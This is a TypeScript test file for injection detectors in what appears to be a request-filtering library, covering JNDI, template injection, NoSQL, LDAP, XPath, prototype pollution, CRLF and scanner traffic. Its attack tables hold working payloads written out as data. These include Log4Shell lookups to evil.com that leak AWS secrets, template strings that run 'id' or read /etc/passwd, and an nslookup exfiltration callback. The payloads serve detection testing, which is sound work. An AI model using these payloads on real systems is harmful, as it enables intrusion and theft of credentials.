/**
 * Table tests for the jndi, ssti, nosql, ldap, xpath, prototype-pollution and crlf detectors:
 * attacks (varied syntaxes and obfuscations) that must count at paranoia 1, near-miss benign
 * inputs that must not, and pathological inputs that must stay linear.
 */
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import type { DetectContext, Detector, InputLocation, ThreatCategory } from '../src/threats/types.js';
import { detectJndi } from '../src/threats/detectors/jndi.js';
import { detectSsti } from '../src/threats/detectors/ssti.js';
import { detectNosql } from '../src/threats/detectors/nosql.js';
import { detectLdap } from '../src/threats/detectors/ldap.js';
import { detectXpath } from '../src/threats/detectors/xpath.js';
import { detectPrototypePollution } from '../src/threats/detectors/proto.js';
import { detectCrlf } from '../src/threats/detectors/crlf.js';
import { detectScanner } from '../src/threats/detectors/scanner.js';
import { assertCheap } from './threats-timing.js';

interface Opts {
  location?: InputLocation;
  isKey?: boolean;
  name?: string;
  paranoia?: 1 | 2 | 3 | 4;
}

function ctx(o: Opts = {}): DetectContext {
  return { paranoia: o.paranoia ?? 1, location: o.location ?? 'query', name: o.name ?? 'q', isKey: o.isKey ?? false };
}

function run(d: Detector, text: string, o: Opts = {}) {
  return d(text, text.toLowerCase(), ctx(o));
}

/** The hit counts alone at paranoia 1 (critical). */
function assertBlocks(d: Detector, category: ThreatCategory, text: string, o: Opts = {}): void {
  const h = run(d, text, o);
  assert.ok(h, `expected a hit for ${JSON.stringify(text)}`);
  assert.equal(h.category, category);
  assert.equal(h.paranoia, 1, `paranoia for ${JSON.stringify(text)}: ${JSON.stringify(h)}`);
  assert.ok(h.severity >= 5, `severity for ${JSON.stringify(text)}: ${JSON.stringify(h)}`);
  assert.ok(h.evidence.length <= 40);
}

/** No hit that counts at paranoia 1. */
function assertPasses(d: Detector, text: string, o: Opts = {}): void {
  const h = run(d, text, o);
  assert.ok(h === undefined || h.paranoia > 1, `unexpected hit for ${JSON.stringify(text)}: ${JSON.stringify(h)}`);
}

const BENIGN_COMMON = [
  "O'Brien",
  'select a plan',
  '1 - 2',
  'john.doe@example.com',
  '+34 (555) 123-4567',
  '2024-01-31T10:00:00Z',
  'Price: $10.99 (tax incl.)',
  'https://www.example.com/path/to/page?x=1&y=2',
  'C:\\Program Files\\App\\app.exe',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36',
  'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8',
  'The quick brown fox (a mammal) jumps over the lazy dog.',
  'El niño comió paella (con gambas) en Valencia, ¿verdad?',
  '# Title\n\n* item one\n* item two\n\n```js\nconst x = 1;\n```',
  '{"name": "Ann", "tags": ["a", "b"], "price": 10}',
  'In C#, use $"Hello {name}" for interpolation; in SQL, SELECT * FROM users WHERE id = 1.',
  'John (Jack) Smith',
  'a*b + c',
];

describe('detectJndi', () => {
  const attacks = [
    '${jndi:ldap://evil.com/a}',
    '${jndi:rmi://evil.com:1099/obj}',
    '${jndi:dns://evil.com}',
    '${jndi:ldaps://evil.com/a}',
    '${JNDI:LDAP://evil.com/a}',
    '${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://evil.com/a}',
    '${${upper:j}${upper:n}${lower:d}${::-i}:ldap://x/a}',
    '${${::-j}${::-n}${::-d}${::-i}:rmi://evil.com/a}',
    '${${env:NOTHING:-j}ndi:ldap://evil.com/a}',
    "${${date:'j'}${date:'n'}di:iiop://evil.com/a}",
    '${${lower:${lower:${upper:j}}}ndi:corba://evil.com/a}',
    '${j${::-n}di:nds://evil.com/a}',
    '$${env:x:-${env:y:-$}{jndi:ldap://evil.com/w}}}',
    '${${k8s:k5:-J}${k8s:k5:-ND}i${sd:k5:-:}ldap://evil.com/a}',
    'User agent ${jndi:ldap://127.0.0.1#evil.com:1389/a} here',
    '${jndi:ldap://evil.com/${env:AWS_SECRET_ACCESS_KEY}}',
    'http://${env:AWS_SECRET_ACCESS_KEY}.evil.com/',
    'ldap://x.${sys:java.version}.evil.com',
  ];
  for (const a of attacks) it(`finds ${a}`, () => assertBlocks(detectJndi, 'jndi', a));

  it('counts bare exfiltration lookups at paranoia 2 only', () => {
    const h = run(detectJndi, '${env:USER}', { paranoia: 2 });
    assert.ok(h && h.paranoia === 2);
    assertPasses(detectJndi, '${env:USER}');
  });

  const benign = [
    ...BENIGN_COMMON,
    '${price}',
    'Total ${amount} due',
    'image: nginx:${TAG:-latest}',
    'port=${PORT:-8080}',
    'JNDI is the Java Naming and Directory Interface',
    '$$ and {} and ${',
  ];
  for (const b of benign) it(`passes ${JSON.stringify(b).slice(0, 50)}`, () => assertPasses(detectJndi, b));
});

describe('detectSsti', () => {
  const attacks = [
    // the type hierarchy, the framework's state, a loop over the configuration
    "{{''.class.mro()[1].subclasses()}}",
    '{{ [].class.base.subclasses() }}',
    '{{dump(app)}}',
    "{{app.request.server.all|join(',')}}",
    '{% for key, value in config.iteritems() %}<dt>{{ key|e }}</dt>{% endfor %}',
    '{{7*7}}',
    '${7*7}',
    "{{7*'7'}}",
    '#{7*7}',
    '*{7*7}',
    '<%= 7*7 %>',
    '[[${7*7}]]',
    '{{= 7*7}}',
    '@(7*7)',
    '${{7*7}}',
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    '{{config.items()}}',
    '{{config}}',
    '{{request.application.__globals__.__builtins__}}',
    '{{self._TemplateReference__context.cycler.__init__.__globals__.os.popen("id").read()}}',
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    "${''.getClass().forName('java.lang.Runtime')}",
    '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
    '#set($x=$class.inspect("java.lang.Runtime"))',
    '{php}echo `id`;{/php}',
    "{system('ls')}",
    '{{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("id")}}',
    '<%= system("whoami") %>',
    "<%= File.open('/etc/passwd').read %>",
    '{{#with "s" as |string|}}{{this.push (lookup string.sub "constructor")}}{{/with}}',
    "{{constructor.constructor('alert(1)')()}}",
    "{{['id']|filter('system')}}",
    "{{request|attr('application')}}",
    '{% import os %}{{ os.popen("id").read() }}',
    '{% if True %}49{% endif %}',
    '<% if True %>49<% endif %>',
    "@{[system 'id']}",
    "#{runtime.exec('id')}",
    '#{process.binding(foo).spawn(foo2)}',
    '#{require.main.constructor._load("child_process")}',
    '${self.module.cache.util.os.system("id")}',
    '__${T(java.lang.Runtime).getRuntime().exec("id")}__::.x',
  ];
  for (const a of attacks) it(`finds ${a.slice(0, 60)}`, () => assertBlocks(detectSsti, 'ssti', a));

  it('reports a plain reference only at paranoia 3', () => {
    const h = run(detectSsti, '{{name}}', { paranoia: 3 });
    assert.ok(h && h.paranoia === 3 && h.severity <= 2);
  });

  const benign = [
    'Welcome to {{app.name}}!',
    '{% for item in items %}{{ item.name }}{% endfor %}',
    '{{ dump(user) }}',
    ...BENIGN_COMMON,
    '{{name}}',
    '${price}',
    '#{name}',
    '<%=title%>',
    'Hello {{ first_name }}, your order {{order.id}} shipped',
    '{{ user.name | upper }}',
    '{% for item in items %}{{item}}{% endfor %}',
    '[[Main Page]]',
    'SCSS: #{$var}',
    '#include <stdio.h>',
    'See issue #123 and PR #45',
    'growth <%10 and >%5',
    '${10-20}',
    'Python tutorial: every class has __init__ and __repr__ methods',
    '$hash{key}=[1,2,3]',
    'div[data-value="test"]',
    'ES6 template: `Hello ${name}`',
    '@(home) is my handle',
  ];
  for (const b of benign) it(`passes ${JSON.stringify(b).slice(0, 50)}`, () => assertPasses(detectSsti, b));
});

describe('detectNosql', () => {
  const keyAttacks = ['$ne', '$gt', '$regex', '$where', '$expr', '$function', '$accumulator', '$lookup', 'user[$ne]', 'user[password][$regex]', 'filter.$where', '$elemMatch', '$or'];
  for (const k of keyAttacks) {
    it(`finds key ${k}`, () => {
      assertBlocks(detectNosql, 'nosqli', k, { isKey: true });
      assertBlocks(detectNosql, 'nosqli', k, { isKey: true, location: 'body', name: '/user/' + k });
    });
  }
  const valueAttacks = [
    '[$ne]=1',
    'user[$ne]=admin&password[$ne]=x',
    '{"$gt": ""}',
    "{'$where': 'sleep(1000)'}",
    '{$where: "this.a == 1"}',
    "'; return true; var x='",
    "' || '1'=='1",
    'this.password.match(/^a.*/)',
    "'; sleep(5000); var a='",
    'db.users.find()',
    'db.getCollection("users").drop()',
    "$where: '1 == 1'",
    '";return(true);var xyz=\'a',
    '$where: function() { return true }',
  ];
  for (const a of valueAttacks) it(`finds ${a}`, () => assertBlocks(detectNosql, 'nosqli', a));

  it('finds ORM lookups that leak data', () => {
    assertBlocks(detectNosql, 'nosqli', 'created_by__user__password__startswith', { isKey: true });
    assertBlocks(detectNosql, 'nosqli', 'username__startswith', { isKey: true });
    assertPasses(detectNosql, 'price__gte', { isKey: true });
  });

  const benignKeys = ['$ref', '$schema', '$id', '$comment', '$defs', '$filter', '$top', '$skip', '$select', '$Version', 'price', 'first_name', '__v'];
  for (const k of benignKeys) it(`passes key ${k}`, () => assertPasses(detectNosql, k, { isKey: true }));
  const benign = [
    '$where: filters documents with JavaScript',
    '$gt: greater than',
    'return(true) is what I wrote',
    ...BENIGN_COMMON,
    'It costs $10 or $20',
    'echo $HOME',
    '{"$ref": "#/components/schemas/User"}',
    '{"$schema": "http://json-schema.org/draft-07/schema#"}',
    'He said "no"; this means we stop',
    'I said "go"; return to base',
    'Use the $set operator',
    'this.value',
  ];
  for (const b of benign) it(`passes ${JSON.stringify(b).slice(0, 50)}`, () => assertPasses(detectNosql, b));
});

describe('detectLdap', () => {
  const attacks = [
    '*)(uid=*))(|(uid=*',
    'admin)(&)',
    '*)(|(objectclass=*)',
    ')(cn=*',
    'printer)(uid=*)',
    'x)!(sn=*',
    'val)&(cn=admin',
    'admin)(|',
    'test) ( & ',
    'test)\t(\t|',
    'aaa*aaa)(cn>=bob)',
    'john)(sn~=smith',
    'value)(gidNumber<=100',
    'admin*)((|userPassword=*)',
    '\\2a\\29\\28uid=\\2a',
    'value)(userAccountControl:1.2.840.113556.1.4.803:=2)',
    // a balanced composite glued to the value before it, or holding a constant condition
    '*(|(objectclass=*))',
    'admin(&(uid=*))',
    '(&(uid=admin)(!(&(1=0)(userPassword=q))))',
    '(|(uid=admin)( 1 = 1 ))',
  ];
  for (const a of attacks) it(`finds ${a}`, () => assertBlocks(detectLdap, 'ldapi', a));
  const benign = [
    ...BENIGN_COMMON,
    '*',
    '(555) 123-4567',
    '(a b)*c',
    '(1 2) (3 4)',
    '(&(objectCategory=computer)(cn=x))',
    '(userAccountControl:1.2.840.113556.1.4.803:=67108864)(&(objectCategory=group))',
    'Options: a) first (b=c)',
    'smile :)(yes)',
    'f(x) = (y)',
    '1) first 2) (second=x)',
    '(|(cn=john)(mail=john@example.com))',
    'Filter: (&(uid=x)(age>=18))',
    'f(!(a=b))',
    'if(!(x==y)) return;',
    'while (!(line = read())) {}',
    'tally (1=1) votes',
  ];
  for (const b of benign) it(`passes ${JSON.stringify(b).slice(0, 50)}`, () => assertPasses(detectLdap, b));
});

describe('detectXpath', () => {
  const attacks = [
    "'] | //user/*[contains(*,'",
    'count(/child::node())',
    'name(/*[1])',
    '//*',
    '/descendant-or-self::node()',
    "doc('http://evil.example/x.xml')",
    'substring(name(/*[1]),1,1)',
    "x' or name()='username' or 'x'='y",
    "' and string-length(name(/*[1]))=4 and ''='",
    "')]/../*[1]/text()|//x['",
    "' or count(//user)=3 or ''='",
    'ancestor::*',
  ];
  for (const a of attacks) it(`finds ${a}`, () => assertBlocks(detectXpath, 'xpathi', a));
  it('leaves the plain tautology to sqli at paranoia 1', () => {
    assertPasses(detectXpath, "' or '1'='1");
    const h = run(detectXpath, "' or '1'='1", { paranoia: 2 });
    assert.ok(h && h.paranoia === 2);
  });
  const benign = [
    ...BENIGN_COMMON,
    'parent::__construct()',
    'self::CONSTANT',
    'std::vector<int>',
    'https://example.com//path',
    'select count(*) from t',
    'a/*comment*/b',
    '//cdn.example.com/lib.js',
    'see https://x.com/*',
    "arr['x'] /*note*/",
    '/users/123/orders',
    'cat file | /usr/bin/wc',
  ];
  for (const b of benign) it(`passes ${JSON.stringify(b).slice(0, 50)}`, () => assertPasses(detectXpath, b));
});

describe('detectPrototypePollution', () => {
  const keyAttacks = ['__proto__', 'a[__proto__][x]', '__proto__.polluted', '__proto__[test]', 'constructor[prototype][x]', 'constructor.prototype', 'constructor.prototype. test', 'a[constructor][prototype][onerror]'];
  for (const k of keyAttacks) it(`finds key ${k}`, () => assertBlocks(detectPrototypePollution, 'prototype-pollution', k, { isKey: true }));
  it('finds a JSON member prototype below constructor (pointer)', () => {
    assertBlocks(detectPrototypePollution, 'prototype-pollution', 'prototype', { isKey: true, location: 'body', name: '/constructor/prototype' });
    assertBlocks(detectPrototypePollution, 'prototype-pollution', 'isAdmin', { isKey: true, location: 'body', name: '/a/__proto__/isAdmin' });
  });
  const valueAttacks = [
    '__proto__[admin]=1',
    '{"__proto__":{"isAdmin":true}}',
    'constructor.prototype.x=1',
    '["constructor"]["prototype"]["x"]',
    "this.constructor.constructor('return process')()",
    '$1:__proto__:then',
    '__proto__.foo=bar',
  ];
  for (const a of valueAttacks) it(`finds ${a}`, () => assertBlocks(detectPrototypePollution, 'prototype-pollution', a));
  const benignKeys = ['constructor', 'prototype', 'proto', 'x__proto__', 'prototypes'];
  for (const k of benignKeys) it(`passes key ${k}`, () => assertPasses(detectPrototypePollution, k, { isKey: true }));
  const benign = [...BENIGN_COMMON, 'Use the prototype pattern', 'The constructor of a class', 'constructor and prototype are JS concepts', 'The __proto__ property is deprecated'];
  for (const b of benign) it(`passes ${JSON.stringify(b).slice(0, 50)}`, () => assertPasses(detectPrototypePollution, b));
});

describe('detectCrlf', () => {
  const attacks: [string, InputLocation][] = [
    ['foo\r\nSet-Cookie: admin=1', 'query'],
    ['foo\nLocation: http://evil.com', 'query'],
    ['x\r\n\r\n<html>pwned</html>', 'query'],
    ['x\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK', 'query'],
    ['x\nGET / HTTP/1.1', 'query'],
    ['\r\nRemote-addr: foo.bar.com', 'query'],
    ['x\r\nX-Forwarded-For: 127.0.0.1', 'header'],
    ['munch\r\n\r\n<HTML><title></title></HTML>', 'cookie'],
    ['/foo\nbar', 'path'],
    ['GET http://www.foo.bar HTTP/1.1', 'query'],
    ['foo\r\nSet-Cookie: admin=1', 'body'],
    ['foo\nLocation: http://evil.com', 'body'],
    ['x\r\nContent-Type: text/html', 'body'],
    ['x\nHTTP/1.1 200 OK', 'body'],
    ['x\nPOST / HTTP/1.1', 'form'],
    ['x\nPOST / HTTP/1.1', 'xml'],
    ['aaa\rHEAD http://example.com/ HTTP/1.1', 'form'],
    // characters whose low byte is LF/CR, which a byte-truncating header writer turns into breaks
    ['\u560a\u560dSet-Cookie: sid=evil', 'query'],
    ['/home\u560a\u560dLocation: https://evil.example/', 'header'],
  ];
  for (const [a, location] of attacks) it(`finds ${JSON.stringify(a)} in ${location}`, () => assertBlocks(detectCrlf, 'crlf', a, { location }));
  it('finds a line break in a parameter name', () => {
    assertBlocks(detectCrlf, 'crlf', 'parameter\r\n', { isKey: true, location: 'query' });
    assertBlocks(detectCrlf, 'crlf', '\r\nRemote-addr: foo', { isKey: true, location: 'query' });
  });
  it('finds a line break inside a one-line identity field (log forging, mail headers)', () => {
    assertBlocks(detectCrlf, 'crlf', 'guest\r\n2024-05-02T10:00:00Z INFO auth login success user=admin', { location: 'form', name: 'username' });
    assertBlocks(detectCrlf, 'crlf', 'a@example.com\nBcc: victim@example.org', { location: 'body', name: 'email' });
    assertBlocks(detectCrlf, 'crlf', 'x\ny', { location: 'body', name: '/user/userName' });
    // other fields hold lines; a trailing break alone is a sloppy client
    assertPasses(detectCrlf, 'line1\nline2', { location: 'body', name: 'comment' });
    assertPasses(detectCrlf, 'Ann\nSmith', { location: 'form', name: 'display_name' });
    assertPasses(detectCrlf, 'bob\n', { location: 'form', name: 'username' });
  });
  it('passes CJK text whose characters end in the bytes of LF or CR (上 is U+4E0A)', () => {
    for (const b of ['上海市浦东新区世纪大道100号', '今天上午十点开会：讨论上线计划', '上記の件について: ご確認ください']) {
      for (const location of ['query', 'header', 'body'] as const) assertPasses(detectCrlf, b, { location });
    }
  });
  const benignBody = [
    'Hello,\nThis is a letter.\nRegards',
    'Dear John,\nRe: meeting\nThanks',
    'Event details\nLocation: Building 4\nTime: 10am',
    'Line1\nNote: something',
    'Status: pending\nHost: Maria',
    'first\r\nsecond\r\n\r\nthird',
    'The request GET /index.html HTTP/1.1 is sent by the browser',
    'HTTP/2 is a binary protocol.\nHTTP/2 multiplexes streams.',
  ];
  for (const b of benignBody) {
    it(`passes ${JSON.stringify(b).slice(0, 50)} in a body`, () => {
      assertPasses(detectCrlf, b, { location: 'body' });
      assertPasses(detectCrlf, b, { location: 'form' });
    });
  }
  for (const b of BENIGN_COMMON.filter((x) => !x.includes('\n'))) it(`passes ${JSON.stringify(b).slice(0, 50)}`, () => assertPasses(detectCrlf, b));
  it('keeps pasted HTTP in JSON text at paranoia 2', () => {
    assertPasses(detectCrlf, '```http\nGET /status?name=ryan HTTP/1.1\nAccept: text/plain\n```', { location: 'body' });
    assertPasses(detectCrlf, 'GET /status?name=ryan HTTP/1.1', { location: 'body' });
  });
  it('counts a bare break in a header less', () => {
    const h = run(detectCrlf, 'a\nb', { location: 'header' });
    assert.ok(h && h.severity < 5);
  });
});

describe('pathological inputs stay linear', () => {
  const detectors: [string, Detector][] = [
    ['jndi', detectJndi],
    ['ssti', detectSsti],
    ['nosql', detectNosql],
    ['ldap', detectLdap],
    ['xpath', detectXpath],
    ['proto', detectPrototypePollution],
    ['crlf', detectCrlf],
    ['scanner', detectScanner],
  ];
  const N = 100_000;
  const units = [
    'a', '${', '{', '{{a', '${{{a}}}#{<%[[@((', '${::-', '$', '(', ')', ')(', "'((((", "'||'", '\r\n', '\nA:', '__proto__',
    'constructor.', '/', '::', 'name(', "']", ')|', 'GET ', '&', '#set(', '/*', "'", '\\29', 'this.a', 'db.', 'a__', '$ne', '<%', '<#assign ',
    '[[', '@(', '*)(', '${jndi:', '(&(', 'a(|(b=', '(1=0)', '(|(1=1)',
  ];
  for (const [name, d] of detectors) {
    it(`${name}: 100 KB of trigger characters`, () => {
      for (const unit of units) {
        const text = unit.repeat(Math.ceil(N / unit.length)).slice(0, N);
        for (const o of [{}, { isKey: true }, { location: 'body' as const }, { location: 'header' as const, paranoia: 4 as const }]) {
          const c = ctx(o);
          // Linear scans take a few ms for 100 KB; a quadratic one would take seconds.
          assertCheap(`${name} on ${JSON.stringify(unit)} ${JSON.stringify(o)}`, (s) => d(s, s.toLowerCase(), c), text, { ceilingMs: 100 });
        }
      }
    });
  }
  it('never throws on odd input', () => {
    const odd = ['', '\u0000', '\ud800', '${', '}', '{{', '<%', ')', '\\', '\\2', '$', '__proto__[', 'constructor', '\r', 'GET  HTTP/'];
    for (const [, d] of detectors) for (const s of odd) for (const isKey of [false, true]) d(s, s.toLowerCase(), ctx({ isKey }));
  });
});

describe('detectScanner', () => {
  const ua = (_v: string): Opts => ({ location: 'header', name: 'user-agent' });
  const agents = [
    'sqlmap/1.7.4#stable (https://sqlmap.org)',
    'Mozilla/5.0 (compatible; Nikto/2.5.0)',
    'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)',
    'Fuzz Faster U Fool v2.0.0',
    'Mozilla/5.0 [en] (X11, U; OpenVAS-VT 22.4.1)',
    'mercuryboard_user_agent_sql_injection.nasl',
    'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)',
  ];
  for (const a of agents) it(`finds the tool in User-Agent ${a}`, () => assertBlocks(detectScanner, 'protocol', a, ua(a)));
  it('reads tool names in User-Agent only', () => {
    assertPasses(detectScanner, 'sqlmap/1.7.4#stable (https://sqlmap.org)', { location: 'body', name: '/comment' });
    assertPasses(detectScanner, 'Nuclei', { location: 'header', name: 'x-product' });
  });
  const callbacks = [
    'http://lmb1ikpej3yys0gqft8lxewm2d89w5qtgh840sp.burpcollaborator.net/a',
    'root@w63gecoroprj5um8ypnd7r6in9t0hseg3.interact.sh',
    '${jndi:ldap://${hostName}.w63gecoroprj5um8ypnd7r6in9t0hseg3.oast.me/a}',
    '; nslookup $(whoami).c1a2b3.oast.fun',
    '<img src=//x.bxss.me>',
    'https://abc123.oastify.com:443/x',
  ];
  for (const c of callbacks) it(`finds the callback domain in ${c}`, () => assertBlocks(detectScanner, 'protocol', c));
  const benign = [
    ...BENIGN_COMMON,
    'boast.fun and roast.me are not callback domains',
    'https://interact.sh.example.com/docs',
    'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_0) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.0 Safari/605.1.15',
    'curl/8.5.0',
    'nucleic acid research',
  ];
  for (const b of benign) it(`passes ${JSON.stringify(b).slice(0, 50)}`, () => assertPasses(detectScanner, b, ua(b)));
});
